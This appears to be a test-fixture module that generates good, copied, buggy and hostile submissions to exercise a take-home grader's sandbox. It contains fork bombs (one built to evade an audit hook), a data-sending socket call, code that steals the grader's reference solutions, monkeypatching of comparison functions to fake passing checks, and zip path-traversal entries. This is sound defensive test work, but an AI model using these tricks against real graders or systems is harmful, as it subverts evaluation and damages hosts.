"""Submissions for the take-home proof: one good, one copied, one with a known mistake, and the bad ones.

Each is a copy of a released ar_forecast take-home with its kata file (and sometimes more)
replaced. `make_submissions` writes them all and returns {name: path}.
"""

from __future__ import annotations

import ctypes.util
import json
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

GOOD_SUFFIX = '''

def _checked(y, p):
    series = np.array(y, dtype=np.float64)
    if series.ndim != 1:
        raise ValueError("y must be 1-D")
    if not np.all(np.isfinite(series)):
        raise ValueError("y must be finite")
    if p < 1:
        raise ValueError("p must be at least 1")
    if len(series) < 2 * p + 2:
        raise ValueError("too few observations")
    return series


def fit_ar(y, p):
    series = _checked(y, p)
    n = len(series)
    design = np.column_stack([np.ones(n - p)] + [series[p - i:n - i] for i in range(1, p + 1)])
    beta = np.linalg.lstsq(design, series[p:], rcond=None)[0]
    return float(beta[0]), beta[1:].copy()


def forecast_ar(y, p, steps):
    if steps < 1:
        raise ValueError("steps must be at least 1")
    c, phi = fit_ar(y, p)
    history = list(np.asarray(y, dtype=np.float64))
    out = np.empty(steps)
    for k in range(steps):
        out[k] = c + sum(phi[i] * history[-1 - i] for i in range(p))
        history.append(out[k])
    return out
'''

# The same code with every name changed, reformatted and commented: similarity must see through it.
COPIED_SUFFIX = '''

def _validate(series_in, order):
    # turn the input into floats
    arr = np.array(series_in, dtype=np.float64)
    if arr.ndim != 1: raise ValueError("1-D please")
    if not np.all(np.isfinite(arr)): raise ValueError("finite please")
    if order < 1: raise ValueError("order >= 1")
    if len(arr) < 2 * order + 2: raise ValueError("too short")
    return arr


def fit_ar(y, p):
    arr = _validate(y, p)
    length = len(arr)
    X = np.column_stack([np.ones(length - p)] + [arr[p - j:length - j] for j in range(1, p + 1)])
    coef = np.linalg.lstsq(X, arr[p:], rcond=None)[0]
    return float(coef[0]), coef[1:].copy()


def forecast_ar(y, p, steps):
    if steps < 1: raise ValueError("steps >= 1")
    intercept, weights = fit_ar(y, p)
    past = list(np.asarray(y, dtype=np.float64))
    result = np.empty(steps)
    for idx in range(steps):
        result[idx] = intercept + sum(weights[j] * past[-1 - j] for j in range(p))
        past.append(result[idx])
    return result
'''

# A known mistake: phi in reverse order (the pitfall reversed_lag_order).
REVERSED_SUFFIX = GOOD_SUFFIX.replace("return float(beta[0]), beta[1:].copy()",
                                      "return float(beta[0]), beta[1:][::-1].copy()")

LOOP = '''
def fit_ar(y, p):
    while True:
        pass


def forecast_ar(y, p, steps):
    while True:
        pass
'''

EXIT_AT_IMPORT = '''
import os

os._exit(3)
'''

HUGE_ALLOCATION = '''
import numpy as np


def fit_ar(y, p):
    block = np.ones(50 * 2**30 // 8)  # 50 GB, touched
    return float(block[0]), np.zeros(p)


def forecast_ar(y, p, steps):
    block = np.ones(50 * 2**30 // 8)
    return block[:steps]
'''

FORK_LOOP = '''
import os


def fit_ar(y, p):
    while True:
        os.fork()


def forecast_ar(y, p, steps):
    while True:
        os.fork()
'''

# Forks from C, with libc's fork looked up through other libraries' code, where the audit hook
# lets it pass: the operating system's process limit must hold.
FORK_LOOP_IN_C = '''
import numpy.ctypeslib
from _pytest.compat import safe_getattr

FORK = safe_getattr(numpy.ctypeslib.load_library({libc_name!r}, {libc_dir!r}), "fork", None)


def fit_ar(y, p):
    while True:
        FORK()


def forecast_ar(y, p, steps):
    while True:
        FORK()
'''

NETWORK = '''
import socket

import numpy as np


def fit_ar(y, p):
    with socket.create_connection(("192.0.2.1", 80), timeout=3) as connection:  # TEST-NET-1
        connection.sendall(repr(y).encode())
    return 0.0, np.zeros(p)


def forecast_ar(y, p, steps):
    socket.getaddrinfo("example.com", 443)
    return np.zeros(steps)
'''

READS_SOLUTIONS = '''
import importlib
import sys
from pathlib import Path

GRADER = Path({grader!r})


def _steal():
    for path in (Path("solutions/ar_forecast.py"), Path(__file__).resolve().parent.parent / "solutions/ar_forecast.py",
                 GRADER / "solutions" / "ar_forecast.py"):
        try:
            source = path.read_text()
        except OSError:
            continue
        namespace = {{}}
        exec(compile(source, str(path), "exec"), namespace)
        return namespace
    try:
        return vars(importlib.import_module("solutions.ar_forecast"))
    except ImportError:
        pass
    for module in list(sys.modules.values()):
        file = str(getattr(module, "__file__", "") or "")
        if hasattr(module, "fit_ar") and "/katas/" not in file:
            return vars(module)
    raise RuntimeError("found no reference solution to copy")


def fit_ar(y, p):
    return _steal()["fit_ar"](y, p)


def forecast_ar(y, p, steps):
    return _steal()["forecast_ar"](y, p, steps)
'''

# Wrong answers, made to pass by replacing the comparisons the checks call.
TAMPERS = '''
import math

np.allclose = lambda *args, **kwargs: True
math.isclose = lambda *args, **kwargs: True


def fit_ar(y, p):
    return 1.0, np.ones(p)


def forecast_ar(y, p, steps):
    return np.ones(steps)
'''

SYNTAX_ERROR = '''
def fit_ar(y, p)
    return 0.0, None
'''

EDITED_TEST = '''
def test_everything_is_fine():
    assert True
'''

KATA = "katas/ar_forecast.py"


def _with_kata(release: Path, dest: Path, body: str, *, keep_docstring: bool = True) -> Path:
    shutil.copytree(release, dest)
    stub = (release / KATA).read_text()
    header = stub.split('"""', 2)
    docstring = f'"""{header[1]}"""\n\nfrom __future__ import annotations\n\nimport numpy as np\n'
    (dest / KATA).write_text((docstring if keep_docstring else "") + body)
    return dest


def _git(folder: Path, *args: str, when: str) -> None:
    env = {**os.environ, "GIT_AUTHOR_DATE": when, "GIT_COMMITTER_DATE": when, "GIT_AUTHOR_NAME": "Candidate",
           "GIT_AUTHOR_EMAIL": "candidate@example.com", "GIT_COMMITTER_NAME": "Candidate",
           "GIT_COMMITTER_EMAIL": "candidate@example.com", "GIT_CONFIG_GLOBAL": "/dev/null",
           "GIT_CONFIG_NOSYSTEM": "1"}
    subprocess.run(["git", "-C", str(folder), *args], check=True, capture_output=True, env=env)


def make_submissions(release: Path, dest: Path, grader_root: Path, *, fork_in_c: bool) -> dict[str, Path]:
    dest.mkdir(parents=True, exist_ok=True)
    made = {}

    good = dest / "good"
    shutil.copytree(release, good)
    _git(good, "init", "-q", when="2024-05-01T09:00:00+00:00")
    _git(good, "add", "-A", when="2024-05-01T09:00:00+00:00")
    _git(good, "commit", "-qm", "the take-home as sent", when="2024-05-01T09:00:00+00:00")
    (good / KATA).write_text((release / KATA).read_text().split("\n\nfrom __future__")[0]
                             + "\n\nfrom __future__ import annotations\n\nimport numpy as np\n" + GOOD_SUFFIX)
    (good / ".katas-state.json").write_text(json.dumps(
        {"version": 1, "katas": {"ar_forecast": {"status": "done", "hint_level": 1, "attempts": 7}},
         "take_home": {"first_run": 1714554000, "last_run": 1714561200, "runs": 9}}))
    _git(good, "add", "-A", when="2024-05-01T11:00:00+00:00")
    _git(good, "commit", "-qm", "fit and forecast", when="2024-05-01T11:00:00+00:00")
    made["good"] = good

    made["copied"] = _with_kata(release, dest / "copied", COPIED_SUFFIX)
    made["known_mistake"] = _with_kata(release, dest / "known_mistake", REVERSED_SUFFIX)
    made["infinite_loop"] = _with_kata(release, dest / "infinite_loop", LOOP)
    made["exit_at_import"] = _with_kata(release, dest / "exit_at_import", EXIT_AT_IMPORT)
    made["huge_allocation"] = _with_kata(release, dest / "huge_allocation", HUGE_ALLOCATION)
    made["fork_loop"] = _with_kata(release, dest / "fork_loop", FORK_LOOP)
    if fork_in_c:
        libc = ctypes.util.find_library("c") or "libc.so.6"
        folder = next((d for d in ("/lib/x86_64-linux-gnu", "/lib/aarch64-linux-gnu", "/usr/lib64", "/lib64", "/lib")
                       if Path(d, libc).exists()), "/lib")
        made["fork_loop_in_c"] = _with_kata(release, dest / "fork_loop_in_c",
                                            FORK_LOOP_IN_C.format(libc_name=libc, libc_dir=folder))
    made["network"] = _with_kata(release, dest / "network", NETWORK)
    made["reads_solutions"] = _with_kata(release, dest / "reads_solutions",
                                         READS_SOLUTIONS.format(grader=str(grader_root)))
    made["syntax_error"] = _with_kata(release, dest / "syntax_error", SYNTAX_ERROR)
    made["tampers"] = _with_kata(release, dest / "tampers", TAMPERS)

    edited = _with_kata(release, dest / "edited_tests", (release / KATA).read_text(), keep_docstring=False)
    (edited / "tests" / "test_ar_forecast.py").write_text(EDITED_TEST)
    (edited / "conftest.py").write_text("# the candidate's own conftest\n")
    made["edited_tests"] = edited

    missing = dest / "missing_file"
    shutil.copytree(release, missing)
    (missing / KATA).unlink()
    made["missing_file"] = missing

    archive = dest / "zip_escape.zip"
    source = dest / "good"
    with zipfile.ZipFile(archive, "w") as bundle:
        for path in sorted(source.rglob("*")):
            if path.is_file() and ".git" not in path.parts:
                bundle.write(path, f"zip_escape/{path.relative_to(source).as_posix()}")
        bundle.writestr("../escaped_from_zip.py", "print('written outside the folder')\n")
        bundle.writestr("zip_escape/../../escaped_twice.py", "print('written outside the folder')\n")
        bundle.writestr("/tmp/katas_absolute_escape.py", "print('written at an absolute path')\n")
    made["zip_escape"] = archive
    return made
